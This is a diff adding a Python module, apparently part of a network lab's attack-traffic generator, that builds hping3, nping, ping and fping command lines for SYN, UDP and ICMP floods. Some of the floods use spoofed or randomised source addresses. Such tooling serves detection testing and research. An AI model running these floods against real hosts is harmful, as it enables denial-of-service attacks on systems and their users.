@@ -1,0 +1,166 @@
+"""Floods of packets: SYN, UDP, ICMP."""
+
+from __future__ import annotations
+
+from wirespeak.lab.attacks.tool import MOST_PACKETS_PER_S, Strike, own, tool
+
+
+def _hping(
+    s: Strike, *mode: str, rate: float, port: int = 0, size: int = 0, spoof: str = "", keep: bool = False
+) -> list[str]:
+    """spoof: "" none, "fixed" one outside address, "random" another for each packet."""
+    pace = ["-i", f"u{int(1e6 / min(rate, MOST_PACKETS_PER_S))}", "-c", str(s.count(rate)), "-q", "-n"]
+    source = {"": [], "fixed": ["-a", s.outsider()], "random": ["--rand-source"]}[spoof]
+    return [
+        "hping3",
+        *mode,
+        *pace,
+        *(["-p", str(port)] if port else []),
+        *(["-d", str(size)] if size else []),
+        *(["-k"] if keep else []),
+        *source,
+        s.address,
+    ]
+
+
+def _nping(s: Strike, *mode: str, rate: float) -> list[str]:
+    return [
+        "nping",
+        *mode,
+        "--rate",
+        str(int(min(rate, MOST_PACKETS_PER_S))),
+        "-c",
+        str(s.count(rate)),
+        "-q",
+        "-N",
+        s.address,
+    ]
+
+
+@tool("flood.syn", package="hping3")
+def hping3_syn(
+    s: Strike,
+    *,
+    port: int = 80,
+    rate: float = 300.0,
+    size: int = 0,
+    spoof: str = "",
+    keep: bool = False,
+    window: int = 64,
+) -> list[str]:
+    """SYN after SYN to one port."""
+    return [*_hping(s, "-S", rate=rate, port=port, size=size, spoof=spoof, keep=keep), "-w", str(window)]
+
+
+@tool("flood.syn")
+def own_syn(
+    s: Strike, *, port: int = 80, rate: float = 300.0, spoof: bool = False, ports: int = 1
+) -> list[str]:
+    """SYNs with the options a real system sends, to one or several ports."""
+    return own(
+        "packets",
+        "syn_flood",
+        target=s.address,
+        ports=[port + i for i in range(ports)],
+        rate=rate,
+        count=s.count(rate),
+        source="" if spoof else s.attacker.address,
+        seed=s.random.getrandbits(32),
+        ttl=s.attacker.ttl,
+    )
+
+
+@tool("flood.syn", package="nmap")
+def nping_syn(s: Strike, *, port: int = 80, rate: float = 200.0) -> list[str]:
+    """nping's TCP mode."""
+    return _nping(s, "--tcp", "--flags", "syn", "-p", str(port), rate=rate)
+
+
+@tool("flood.udp", package="hping3")
+def hping3_udp(
+    s: Strike, *, port: int = 53, rate: float = 300.0, size: int = 120, spoof: str = "", keep: bool = False
+) -> list[str]:
+    """UDP datagrams to one port, a new source port each unless `keep`."""
+    return _hping(s, "--udp", rate=rate, port=port, size=size, spoof=spoof, keep=keep)
+
+
+@tool("flood.udp")
+def own_udp(s: Strike, *, port: int = 0, rate: float = 300.0, size: int = 512, sockets: int = 1) -> list[str]:
+    """Datagrams from real sockets; port 0 means another random port each time."""
+    return own(
+        "packets",
+        "udp_flood",
+        target=s.address,
+        port=port,
+        rate=rate,
+        count=s.count(rate),
+        size=size,
+        sockets=sockets,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("flood.udp", package="nmap")
+def nping_udp(s: Strike, *, port: int = 161, rate: float = 200.0, size: int = 64) -> list[str]:
+    """nping's UDP mode."""
+    return _nping(s, "--udp", "-p", str(port), "--data-length", str(size), rate=rate)
+
+
+@tool("flood.icmp", package="hping3")
+def hping3_icmp(s: Strike, *, rate: float = 300.0, size: int = 56, spoof: str = "") -> list[str]:
+    """Echo requests, each with its own sender or not."""
+    return _hping(s, "-1", rate=rate, size=size, spoof=spoof)
+
+
+@tool("flood.icmp", package="iputils-ping")
+def ping_flood(s: Strike, *, rate: float = 200.0, size: int = 56) -> list[str]:
+    """ping with a small interval."""
+    return [
+        "ping",
+        "-n",
+        "-q",
+        "-i",
+        f"{1 / min(rate, MOST_PACKETS_PER_S):.4f}",
+        "-s",
+        str(size),
+        "-c",
+        str(s.count(rate)),
+        s.address,
+    ]
+
+
+@tool("flood.icmp")
+def own_icmp(s: Strike, *, rate: float = 300.0, size: int = 400, identities: int = 50) -> list[str]:
+    """Echo requests with changing identifiers."""
+    return own(
+        "packets",
+        "icmp_flood",
+        target=s.address,
+        rate=rate,
+        count=s.count(rate),
+        size=size,
+        identities=identities,
+        seed=s.random.getrandbits(32),
+    )
+
+
+@tool("flood.icmp", package="nmap")
+def nping_icmp(s: Strike, *, rate: float = 200.0) -> list[str]:
+    """nping's ICMP mode."""
+    return _nping(s, "--icmp", rate=rate)
+
+
+@tool("flood.icmp", package="fping")
+def fping_flood(s: Strike, *, rate: float = 200.0, size: int = 56) -> list[str]:
+    """fping in a loop on one host."""
+    return [
+        "fping",
+        "-q",
+        "-p",
+        str(max(1, int(1000 / rate))),
+        "-b",
+        str(size),
+        "-c",
+        str(s.count(rate)),
+        s.address,
+    ]
